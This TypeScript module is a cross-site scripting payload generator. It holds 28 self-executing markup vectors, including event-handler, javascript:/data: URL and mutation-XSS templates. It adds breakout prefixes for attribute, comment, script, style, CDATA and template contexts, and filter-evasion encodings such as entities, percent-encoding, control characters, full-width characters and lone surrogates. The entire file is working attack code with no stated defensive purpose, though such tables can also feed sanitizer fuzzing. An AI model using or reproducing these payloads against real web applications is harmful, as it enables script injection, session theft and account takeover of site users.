// Vectors: ways in which markup runs a script by itself, where it stands in, and how it is written; the table that payloads are made of.

export type Vector = {
  readonly name: string;
  /** `js`: an expression without quotes, spaces or signs of markup. */
  readonly write: (js: string) => string;
};

export const VECTORS: readonly Vector[] = [
  { name: "script", write: (js) => `<script>${js}</script>` },
  { name: "script-of-data", write: (js) => `<script src="data:text/javascript,${js}"></script>` },
  { name: "module", write: (js) => `<script type=module>${js}</script>` },
  { name: "img", write: (js) => `<img src=x onerror=${js}>` },
  { name: "img-slashes", write: (js) => `<img/src=x/onerror=${js}//>` },
  { name: "svg", write: (js) => `<svg onload=${js}></svg>` },
  { name: "svg-script", write: (js) => `<svg><script>${js}</script></svg>` },
  { name: "svg-animate", write: (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>` },
  { name: "details", write: (js) => `<details open ontoggle=${js}>x</details>` },
  { name: "input", write: (js) => `<input autofocus onfocus=${js}>` },
  { name: "select", write: (js) => `<select autofocus onfocus=${js}></select>` },
  { name: "video", write: (js) => `<video><source src=x onerror=${js}></video>` },
  { name: "audio", write: (js) => `<audio src=x onerror=${js}></audio>` },
  { name: "frame-of-words", write: (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>` },
  { name: "frame-of-script", write: (js) => `<iframe src="javascript:${js}"></iframe>` },
  { name: "frame-of-data", write: (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>` },
  { name: "object", write: (js) => `<object data="data:text/html,<script>${js}</script>"></object>` },
  { name: "embed", write: (js) => `<embed src="data:text/html,<script>${js}</script>">` },
  {
    name: "animation",
    write: (js) => `<style>@keyframes q{}</style><b style="animation:q 1s" onanimationstart=${js}>x</b>`,
  },
  { name: "style-load", write: (js) => `<style onload=${js}></style>` },
  { name: "link-error", write: (js) => `<link rel=stylesheet href=x onerror=${js}>` },
  { name: "marquee", write: (js) => `<marquee onstart=${js}>x</marquee>` },
  {
    name: "mutation",
    write: (js) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  },
  { name: "noscript", write: (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">` },
  { name: "title", write: (js) => `<svg></p><style><a title="</style><img src=x onerror=${js}>">` },
  {
    name: "refresh",
    write: (js) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  },
  {
    name: "xhtml",
    write: (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  },
  { name: "use", write: (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>` },
];

/** What a payload has to end before it can begin, by where it may stand. */
export const CONTEXTS: Readonly<Record<string, (markup: string) => string>> = {
  text: (markup) => markup,
  "double-quoted": (markup) => `">${markup}`,
  "single-quoted": (markup) => `'>${markup}`,
  unquoted: (markup) => ` >${markup}`,
  comment: (markup) => `-->${markup}<!--`,
  title: (markup) => `</title></head><body>${markup}`,
  textarea: (markup) => `</textarea>${markup}`,
  "script-data": (markup) => `"}</script>${markup}<script>`,
  style: (markup) => `</style>${markup}`,
  cdata: (markup) => `]]>${markup}<![CDATA[`,
  template: (markup) => `\${${markup}}{{${markup}}}`,
  table: (markup) => `</td></table>${markup}`,
};

const toFullWidth = (text: string): string =>
  text.replace(/[<>"'=/]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0));

/** How somebody writes it who counts on its being read back once too often. */
export const ENCODINGS: Readonly<Record<string, (markup: string) => string>> = {
  plain: (markup) => markup,
  capitals: (markup) =>
    markup.replace(/<(\/?)([a-z]+)/g, (_, end: string, name: string) => `<${end}${name.toUpperCase()}`),
  entities: (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
  "numbered-entities": (markup) =>
    markup.replace(/[<>"]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  "percent-signs": (markup) => encodeURIComponent(markup),
  escapes: (markup) => markup.replace(/[<>"]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  controls: (markup) => markup.replaceAll("<", "<\u0000").replace(/=/g, "\u0008="),
  "full-width": toFullWidth,
  "half-signs": (markup) => `\ud800${markup}\udc00`,
  lines: (markup) => markup.replaceAll(" ", "\n\u2028\t"),
};
